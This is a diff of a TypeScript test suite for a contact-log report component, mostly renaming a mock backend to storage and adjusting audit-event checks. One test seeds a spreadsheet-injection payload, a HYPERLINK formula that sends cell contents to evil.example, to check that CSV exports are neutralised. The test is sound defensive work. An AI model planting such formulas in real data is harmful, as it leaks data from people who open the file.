@@ -96,14 +96,14 @@ describe('<contact-log-report>', () => {
     button(dialog, 'Sign in').click();
     const result = await outcome;
     expect(result.status).to.equal('signed-in');
-    const logs = written(mock.backend);
+    const logs = written(mock.storage);
     expect(logs, 'red and the two thresholds keep logs').to.have.length(3);
-    const client = mock.backend.data.clients.find((c) => c.id === 'client-6')!;
+    const client = mock.storage.data.clients.find((c) => c.id === 'client-6')!;
     dialog.remove();
 
     const report = await mount(restAdapter(), `type:client-alert staff:"${desk.name}" client:"${client.name}"`);
     await ready(report);
-    const before = mock.backend.data.contactLogs.filter(
+    const before = mock.storage.data.contactLogs.filter(
       (l) => l.id.startsWith('seed-') && l.staff.id === desk.id && l.clientId === client.id,
     );
     const shown = rows(report);
@@ -168,11 +168,11 @@ describe('<contact-log-report>', () => {
 
   it('filters by answered date as the viewer’s days', async () => {
     const mock = await useMock({});
-    const day = mock.backend.data.contactLogs[0]!.at.slice(0, 10);
+    const day = mock.storage.data.contactLogs[0]!.at.slice(0, 10);
     const element = await mount(restAdapter(), `created:${day}`);
     await ready(element);
     const start = new Date(`${day}T00:00:00`).getTime();
-    const expected = mock.backend.data.contactLogs.filter((l) => {
+    const expected = mock.storage.data.contactLogs.filter((l) => {
       const t = Date.parse(l.at);
       return t >= start && t < start + 86_400_000;
     }).length;
@@ -204,8 +204,8 @@ describe('<contact-log-report>', () => {
     const detail = await until(() => $$(element, '[part~="detail"]')[0], 'the detail');
     expect(details.getAttribute('aria-expanded')).to.equal('true');
     expect(details.getAttribute('aria-controls')).to.equal(detail.id);
-    const log = mock.backend.data.contactLogs.slice().sort((a, b) => (a.at < b.at ? 1 : -1))[0]!;
-    const client = mock.backend.data.clients.find((c) => c.id === log.clientId)!;
+    const log = mock.storage.data.contactLogs.slice().sort((a, b) => (a.at < b.at ? 1 : -1))[0]!;
+    const client = mock.storage.data.clients.find((c) => c.id === log.clientId)!;
     expect(detail.textContent).to.contain('nobody can edit or delete it');
     expect(detail.textContent, 'the admin sees the email').to.contain(client.email ?? '—');
     expect(detail.textContent).to.contain(
@@ -247,7 +247,10 @@ describe('<contact-log-report>', () => {
     await ready(element);
     button(element, 'Export CSV').click();
     await until(() => deepText(element).includes('Exported'), 'the export');
-    const events = recorded(mock.backend).map((e) => [e.action, e.actor.id, e.metadata]);
+    const events = recorded(mock.storage).map((e) => {
+      const { fingerprint: _fingerprint, ...metadata } = e.metadata ?? {};
+      return [e.action, e.actor.id, metadata];
+    });
     expect(events, 'a next page is not another view').to.deep.equal([
       [
         'report.viewed',
@@ -267,7 +270,7 @@ describe('<contact-log-report>', () => {
           filters: { subtype: 'arrivals', sort: 'at', direction: 'desc' },
           masked: false,
           format: 'csv',
-          rows: mock.backend.data.contactLogs.filter((l) => l.subtype === 'arrivals').length,
+          rows: mock.storage.data.contactLogs.filter((l) => l.subtype === 'arrivals').length,
         },
       ],
     ]);
@@ -276,8 +279,8 @@ describe('<contact-log-report>', () => {
   it('exports with masking for a masked viewer and cells safe to open in a spreadsheet', async () => {
     const mock = await useMock({ viewer: 'duty-manager' });
     const formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")';
-    mock.backend.data.contactLogs[0]!.reason = formula;
-    mock.backend.data.contactLogs[1]!.reason = '@SUM(1+1)';
+    mock.storage.data.contactLogs[0]!.reason = formula;
+    mock.storage.data.contactLogs[1]!.reason = '@SUM(1+1)';
     const adapter = restAdapter();
     const csv = await adapter.exportContactLogs({}, 'csv');
     const json = await adapter.exportContactLogs({}, 'json');
